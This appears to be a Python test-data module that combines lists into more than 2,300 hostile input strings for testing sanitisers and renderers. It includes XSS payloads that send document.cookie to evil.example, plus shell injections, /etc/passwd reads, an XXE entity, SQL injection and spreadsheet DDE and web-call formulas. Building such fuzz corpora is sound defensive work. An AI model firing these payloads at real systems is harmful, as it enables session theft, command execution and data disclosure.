"""Texts that try to run, to lead elsewhere or to break a file: made from our own lists, over two thousand of them."""

from functools import cache
from html import escape
from itertools import product
from urllib.parse import quote

ACT = "window.pwned=1;fetch('https://evil.example/'+document.cookie)"
_QUICK = "window.pwned=1"
_ELEMENTS = (
    *(
        "img src=x",
        "svg",
        "body",
        "iframe",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "details open",
        "select",
    ),
    *(
        "marquee",
        "object data=x",
        "embed src=x",
        "textarea autofocus",
        "a href=#",
        "style",
        "math",
        "form",
        "button",
    ),
    *(
        "video><source",
        "picture><img src=x",
        "table background=x",
        "link rel=stylesheet href=x",
        "template",
        "dialog open",
    ),
)
_EVENTS = (
    *(
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onclick",
        "onstart",
        "onpageshow",
        "onanimationstart",
    ),
    *("onbeforetoggle", "oncontentvisibilityautostatechange", "onpointerenter", "onscrollend", "onwheel"),
)
_BREAKS = (
    "",
    '">',
    "'>",
    "-->",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "]]>",
    "\\u0022>",
    "`>",
    "/>",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,",
)
_TEMPLATES = (
    *(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% import os %}",
        "{{config}}",
        "{{''.__class__.__mro__}}",
        "[[${7*7}]]",
    ),
    *(
        "{0.__class__}",
        "%(secret)s",
        "%s%n%x",
        "$(touch /tmp/pwned)",
        "`touch /tmp/pwned`",
        "; rm -rf /tmp/x",
        "| cat /etc/passwd",
    ),
)
_TYPESET = (
    *(
        '#read("/etc/passwd")',
        '#image("https://evil.example/x.png")',
        '#eval("1")',
        "#set page(width: 1pt)",
        "$x^2$",
        "#panic()",
    ),
    *(
        "\\input{/etc/passwd}",
        '#[#link("javascript:1")[x]]',
        '#include "x"',
        "*_`<label>`_*",
        "@ref",
        "#" * 50,
        "\\",
    ),
)
_CELLS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
        " =1+1",
        "＝1+1",
        "=cmd|'/C calc'!A0",
        "#REF!",
    ),
    *(
        '=HYPERLINK("https://evil.example","x")',
        '=IMPORTXML("https://evil.example","//a")',
        '=WEBSERVICE("https://evil.example")',
    ),
    *('"=1+1', "';=1+1", '",=1+1', '=DDE("cmd";"/C calc";"x")', "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1"),
)
_NAUGHTY = (
    *("", " ", "\t", "\n", "\r\n", "\0"),
    *("\x7f", "\x1b[31m", "\x9b31m", "\u202e\u2066", "\u2028\u2029", "\ufeff", "\ufffe\uffff"),
    *("\ud800", "\udfff\ud800"),
    *("\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1e9\U0001f1f0", "Z\u0310\u031a\u0317" * 20),
    *("ﷺ", "𝕋𝕖𝕤𝕥", "İıſK", "ß", "ǅ", "אבג abc"),
    *("مرحبا 123", "田中さん", "﷽" * 20, "a" * 5000, "𝕏" * 90, "é" * 2000, "\u0301" * 50),
    *("null", "undefined", "NaN", "Infinity", "true", "None", "nil", "-0", "1e400", "0x10", "1,000.00", "١٢٣", "½"),
    *("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "."),
    *("..", "../../x", "/etc/passwd", "C:\\x", "\\\\host\\share", "-rf", "~"),
    *("'", '"', "''", "' OR 1=1 --", "'; DROP TABLE x; --", "\\'"),
    *("`", "<", ">", "&", "&amp;", "&lt;script&gt;", "&#x3c;"),
    *("<!--", "-->", "<![CDATA["),
    *("]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"),
    *("Subject: x\r\nBcc: evil@example.org", "a@b.example\nCc: c@d.example", "=?utf-8?q?=3Cscript=3E?=", "\r\n.\r\n"),
    *("[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "<https://evil.example>"),
    *("[x]: javascript:1", "# x", "***"),
    *("| a | b |", "```\nx", "~~~", "    code", "1. x", "> x", "- [ ] x"),
    *("\\*", "&nbsp;", "<br>", "<b>x</b>", "~x~", "^x^", "==x=="),
)  # fmt: skip


def _markup():
    """Every element by every event, by every way out of where a text may stand."""
    for element, event in product(_ELEMENTS, _EVENTS):
        yield f"<{element} {event}={_QUICK}>"
    for out, element in product(_BREAKS, _ELEMENTS):
        yield f"{out}<{element} onerror={_QUICK} onload={_QUICK}>"
    for out in _BREAKS:
        yield f"{out}<script>{ACT}</script>"
        yield f"{out}<ScRiPt src=//evil.example/x.js></sCrIpT>"
        yield f"{out}<svg><script>{ACT}</script></svg>"
        yield f"{out}<meta http-equiv=refresh content='0;url=https://evil.example'>"
        yield f"{out}<base href=https://evil.example/>"
        yield f"{out}<style>@import'https://evil.example/x.css';*{{background:url(https://evil.example/x)}}</style>"
        yield f"{out}<math><mtext><table><mglyph><style><img src=x onerror={_QUICK}>"
        yield f"{out}<noscript><p title='</noscript><img src=x onerror={_QUICK}>'>"
    for event in _EVENTS:
        yield f'" {event}="{_QUICK}" x="'
        yield f"' {event}='{_QUICK}' x='"
        yield f"` {event}=`{_QUICK}`"
        yield f" {event}={_QUICK} "


def _links():
    for scheme in _SCHEMES:
        yield f"{scheme}{ACT}"
        yield f"{scheme}//evil.example/%0a{_QUICK}"
        yield f"https://acme.example\n{scheme}{_QUICK}"
    yield from (
        "//evil.example/x",
        "https://bank.example@evil.example/",
        "file:///etc/passwd",
        "https:\\\\evil.example",
    )
    yield from (
        "blob:https://evil.example/1",
        "https://[::1",
        "ftp://evil.example/x",
        "mailto:a@b.example?body=x",
    )


def _script():
    """What breaks out of a text of JavaScript or JSON."""
    for quote_mark, end in product(("'", '"', "`"), (";", ");", "};", "]];", "\n", "//")):
        yield f"{quote_mark}{end}{_QUICK};{quote_mark}"
        yield f"\\{quote_mark}{end}{_QUICK}//"
    yield from (
        "</script><script>" + _QUICK,
        "<!--<script>",
        "\u2028" + _QUICK,
        "__proto__",
        "constructor",
        "toString",
    )


@cache
def attacks():
    """All of them, each once: more than 2,300, in the same order each time."""
    plain = [*_markup(), *_links(), *_script(), *_TEMPLATES, *_TYPESET, *_CELLS, *_NAUGHTY]
    marked = [text for text in plain if "<" in text]
    disguised = [
        *(escape(text) for text in marked),
        *(text.replace("<", "＜").replace(">", "＞") for text in marked[::3]),
        *(text.replace("<", "\\u003c").replace(">", "\\u003e") for text in marked[::3]),
        *(quote(text) for text in marked[::3]),
        *(text.replace(" ", "/", 1) for text in marked[::2]),
        *(text.replace("<", "<\0").replace(" ", "\x0c") for text in marked[::2]),
        *("Ann " + text for text in plain[::2]),
    ]
    return tuple(dict.fromkeys((*plain, *disguised)))
